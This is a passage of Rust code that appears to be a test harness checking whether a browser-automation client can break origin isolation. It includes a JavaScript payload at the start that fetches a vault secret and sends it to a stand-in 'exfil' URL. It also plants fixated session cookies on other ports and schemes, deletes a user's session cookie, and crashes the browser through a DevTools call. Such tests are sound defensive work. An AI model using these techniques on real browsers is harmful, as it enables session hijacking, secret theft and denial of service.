        "(async () => {{ let d = ''; try {{ d = await (await fetch('http://vault.sliccy.ai/anon?t={t}')).text(); }} catch (e) {{ d = 'E ' + e; }} \
         fetch('http://ordinary.test/exfil?t={t}&o=' + encodeURIComponent(location.origin) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); return d; }})()",
        t = ctx.tag
    ));
    let v = ctx.eval(&s, &js)?;
    ctx.exfiltrated(2000)
        .map_err(|_| Stop::Failed(format!("the page's fetch gave {v}")))
}

// ---- gap 5 ----

/// The other port of the extra origin's host.
const OTHER_PORT: &str = "http://client.example:8181/";

/// After `plant`, the user opens the extra origin's app: its server got the planted cookie.
fn planted(ctx: &Ctx, plant: &dyn Fn(&str) -> Result<(), Stop>) -> Res {
    let value = format!("fixated-{}", ctx.tag);
    plant(&value)?;
    ctx.user_open(&ctx.url(EXTRA_ORIGIN, "/app"))?;
    ctx.app()
        .wait(Duration::from_secs(2), |h| {
            h.host == "client.example"
                && h.header("cookie")
                    .is_some_and(|c| c.contains(&format!("session={value}")))
        })
        .map(|h| {
            format!(
                "the extra origin's server got the client's cookie: {}",
                h.header("cookie").unwrap_or_default()
            )
        })
        .ok_or_else(|| {
            Stop::Failed("the extra origin's server never got the client's cookie".into())
        })
}

fn set_cookie_other_port(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    planted(ctx, &|value| {
        ctx.send(
            "Network.setCookie",
            json!({"name": "session", "value": value, "url": OTHER_PORT}),
            Some(&s),
        )?;
        Ok(())
    })
}

fn storage_set_cookies_other_port(ctx: &Ctx) -> Res {
    planted(ctx, &|value| {
        ctx.send(
            "Storage.setCookies",
            json!({"cookies": [{"name": "session", "value": value, "url": OTHER_PORT}]}),
            None,
        )?;
        Ok(())
    })
}

fn network_set_cookies_other_port(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    planted(ctx, &|value| {
        ctx.send(
            "Network.setCookies",
            json!({"cookies": [{"name": "session", "value": value, "url": OTHER_PORT}]}),
            Some(&s),
        )?;
        Ok(())
    })
}

fn set_cookie_other_scheme(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    planted(ctx, &|value| {
        ctx.send(
            "Network.setCookie",
            json!({"name": "session", "value": value, "url": "https://client.example/"}),
            Some(&s),
        )?;
        Ok(())
    })
}

fn delete_cookies_other_port(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.url(EXTRA_ORIGIN, "/app"))?;
    let probe = "fetch('/secret', {credentials: 'include'}).then((r) => r.text())";
    let before = ctx.user_eval(&tab, probe)?;
    if before.as_str() != Some(ctx.secret()) {
        return Err(Stop::Setup(format!(
            "the user is not signed in to the extra origin: {}",
            before.as_str().map(str::len).unwrap_or_default()
        )));
    }
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Network.deleteCookies",
        json!({"name": "session", "url": OTHER_PORT}),
        Some(&s),
    )?;
    let after = ctx.user_eval(&tab, probe)?;
    if after == json!("no-session") {
        Ok("the extra origin's server no longer sees the user's session (/secret answers no-session)".into())
    } else {
        Err(Stop::Failed(
            "the user's session on the extra origin is kept".into(),
        ))
    }
}

fn display_features_crash(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let (_, s) = ctx.open(&ctx.url("http://ordinary.test", "/page"))?;
    let r = ctx.c.send(
        "Emulation.setDisplayFeaturesOverride",
        json!({"features": []}),
        Some(&s),
    );
    sleep(1500);
    ctx.tab_gone(&tab, "the browser crashed, and the vault tab with it", &r)
}
